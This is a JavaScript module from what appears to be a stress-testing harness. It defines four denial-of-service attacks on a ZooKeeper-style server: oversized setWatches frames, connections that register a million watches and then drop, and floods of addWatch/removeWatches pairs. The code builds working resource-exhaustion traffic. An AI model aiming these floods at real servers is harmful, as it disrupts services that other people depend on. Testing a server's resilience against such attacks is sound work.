// Attacks with watches, set or removed by the thousand.
import { flood, pathsOf, session, watchFrames, znodeOf } from './preparation.mjs';
import { Bytes, FRAME_BYTES_MAX, frameOf, Op, pathRecord } from './wire.mjs';

/** @type {import('./attacks.mjs').Attack[]} */
export const WATCHES = [
  {
    name: 'setWatches, 1 MB of paths',
    async make({ port, znodes }) {
      const client = await session(port);
      const paths = pathsOf(FRAME_BYTES_MAX - 64, (i) => znodeOf((i * 7919) % znodes));
      const record = new Bytes()
        .long(2n ** 62n)
        .texts(paths)
        .texts([])
        .texts([]);
      return { client, frames: [frameOf(Op.setWatches, record, -8)], depth: 4 };
    },
    attack: flood,
  },
  {
    name: 'setWatches, 1 MB of events',
    async make({ port }) {
      const client = await session(port);
      const paths = pathsOf(FRAME_BYTES_MAX - 64, () => '/x');
      const record = new Bytes().long(0).texts(paths).texts([]).texts([]);
      return { client, frames: [frameOf(Op.setWatches, record, -8)], depth: 4 };
    },
    attack: flood,
  },
  {
    name: 'a connection with 1,000,000 watches dropped',
    make: async ({ port, scale }) => ({ port, frames: watchFrames(1_000_000 * scale) }),
    async attack({ port, frames }, isOver) {
      while (!isOver()) {
        const client = await session(port);
        for (const frame of frames) client.send(frame);
        await client.answered(frames.length);
        client.drop();
        await client.closed();
      }
    },
  },
  {
    name: 'addWatch and removeWatches',
    async make({ port }) {
      const client = await session(port);
      const frames = [];
      for (let i = 0; i < 2000; i++) {
        frames.push(frameOf(Op.addWatch, pathRecord(`/w${i}`).int(1)));
        frames.push(frameOf(Op.removeWatches, pathRecord(`/w${i}`).int(3)));
      }
      return { client, frames: [Buffer.concat(frames)], together: frames.length, depth: 8 * frames.length };
    },
    attack: flood,
  },
];
